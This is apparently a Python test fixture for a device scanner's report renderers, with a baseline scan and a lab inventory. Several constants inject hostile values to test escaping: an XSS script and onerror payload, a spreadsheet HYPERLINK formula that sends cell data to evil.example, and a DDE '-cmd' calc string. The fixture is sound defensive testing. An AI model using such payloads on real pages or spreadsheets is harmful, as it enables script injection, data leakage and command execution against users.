"""A fixed report with every feature the renderers show, plus a baseline and an inventory.

Built on the samples of test_samples.py and extended with what discovery fills in (MAC vendor,
discovery methods, discovery runs), a device that moved, one that is gone and a fixed finding,
so the golden files and the format tests see new, unchanged, fixed, accepted, expired,
unaccepted, unexpected and missing all at once.
"""

from __future__ import annotations

import dataclasses
from datetime import date

from scanner.models import DiscoveryRun, DiscoveryStatus, Report, Severity
from scanner.report.inventory import Inventory, parse_inventory
from scanner.report.review import Review, make_review
from tests.report.test_samples import finding, host, report, sample_hosts

SCRIPT_TITLE = '<script>document.title="pwned"</script><img src=x onerror="alert(1)">'
FORMULA_MODEL = '=HYPERLINK("http://evil.example/?"&A1,"click")'

INVENTORY_YAML = b"""\
# the lab's expected devices
devices:
  - name: dahua door camera
    ip: 127.77.0.12
  - ip: 127.77.0.11
  - ip: 127.77.0.15
    mac: "00:40:8C:12:34:56"
  - name: spare nvr
    ip: 127.77.0.20
accepted:
  - finding: telnet-open
    device: dahua door camera
    port: 23
    reason: the test rig drives this camera over Telnet
    expires: 2027-06-30
  - finding: upnp-exposed
    device: 127.77.0.12
    reason: vendor fix pending
    expires: 2026-10-31
  - finding: ftp-open
    reason: nothing has this any more
    expires: 2027-01-01
"""
SCAN_DAY = date(2026, 11, 20)


def golden_report() -> Report:
    """The samples, with discovery data, a MAC on the Axis and a hostile device name."""
    hosts = list(sample_hosts())
    for i, h in enumerate(hosts):
        if h.ip == "127.77.0.12":
            hosts[i] = dataclasses.replace(
                h, mac_vendor="Zhejiang Dahua Technology", discovered_by=("arp", "tcp")
            )
        elif h.ip == "127.77.0.15":
            hosts[i] = dataclasses.replace(
                h,
                mac="00:40:8c:12:34:56",
                mac_vendor="Axis Communications AB",
                discovered_by=("mdns", "tcp"),
            )
    hosts.append(
        host(
            "127.77.0.30",
            (
                finding(
                    "web-title-injection",
                    Severity.MEDIUM,
                    title=SCRIPT_TITLE,
                    evidence='http.title = "' + SCRIPT_TITLE + '"\n| fake | cell |\n[x](http://e)',
                    port=80,
                ),
            ),
            vendor="@evil",
            model=FORMULA_MODEL,
            hostnames=("-cmd|' /C calc'!A0",),
        )
    )
    base = report(tuple(hosts))
    return dataclasses.replace(
        base,
        discovery=(
            DiscoveryRun("tcp", DiscoveryStatus.RAN, "", 7),
            DiscoveryRun("arp", DiscoveryStatus.RAN, "", 1),
            DiscoveryRun("mdns", DiscoveryStatus.FAILED, "no multicast route"),
            DiscoveryRun("ssdp", DiscoveryStatus.SKIPPED, "switched off"),
        ),
    )


def baseline_report() -> Report:
    """An earlier scan: the Axis sat at .14, .40 was still there, .12 had an extra finding."""
    current = {h.ip: h for h in golden_report().hosts}
    dahua = current["127.77.0.12"]
    dahua_before = dataclasses.replace(
        dahua,
        findings=(
            *(f for f in dahua.findings if f.id != "weak-tls"),
            finding("http-default-page", Severity.LOW, port=80),
        ),
        services=tuple(s for s in dahua.services if s.port != 80),
    )
    axis_before = dataclasses.replace(current["127.77.0.15"], ip="127.77.0.14")
    gone = host(
        "127.77.0.40",
        (finding("telnet-open", Severity.HIGH, port=23),),
        vendor="Foscam",
    )
    hikvision = current["127.77.0.11"]
    hosts = (dahua_before, axis_before, gone, hikvision, current["127.77.0.16"])
    return dataclasses.replace(
        report(hosts), started_at="2026-11-13T10:00:00Z", finished_at="2026-11-13T10:00:09Z"
    )


def golden_inventory() -> Inventory:
    return parse_inventory(INVENTORY_YAML, "lab-inventory.yaml")


def golden_review() -> Review:
    review = make_review(
        golden_report(), baseline=baseline_report(), inventory=golden_inventory(), on=SCAN_DAY
    )
    assert review is not None
    return review
